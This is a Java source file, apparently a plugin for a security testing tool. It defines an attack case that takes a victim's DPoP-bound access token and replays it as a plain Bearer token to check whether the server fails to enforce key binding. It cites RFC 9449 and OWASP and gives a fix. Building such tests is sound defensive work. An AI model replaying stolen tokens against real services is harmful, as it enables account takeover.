package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Sends a token that is bound to a key as if it were not. */
@AutoService(Attack.class)
public final class DpopAsBearer implements Attack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "dpop-as-bearer",
        "A bound token sent as Bearer",
        AttackGroup.PROOF_OF_POSSESSION,
        "The attacker has no key for the proof, so they send the token without one, as Bearer.",
        "A token of Alice's that is bound to her key.",
        "The server takes bearer tokens too, and does not look whether this one is bound to a key.",
        "bound-token-as-bearer",
        List.of("RFC 9449 §7.2", "OWASP API2:2023"),
        "Refuse a token with cnf.jkt unless a proof of that key comes with it.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String token =
        target.makes(
            "Steal a token that is bound to Alice's key.",
            "token",
            target.loot().secret(Loot.VICTIM, "dpop.token"));
    Hop answer =
        target.send(
            "Send it as Bearer, without a proof.",
            target.get(Events.VICTIMS).withHeader("Authorization", "Bearer " + token));
    return target.end(Events.areIn(answer), Events.GAIN);
  }
}
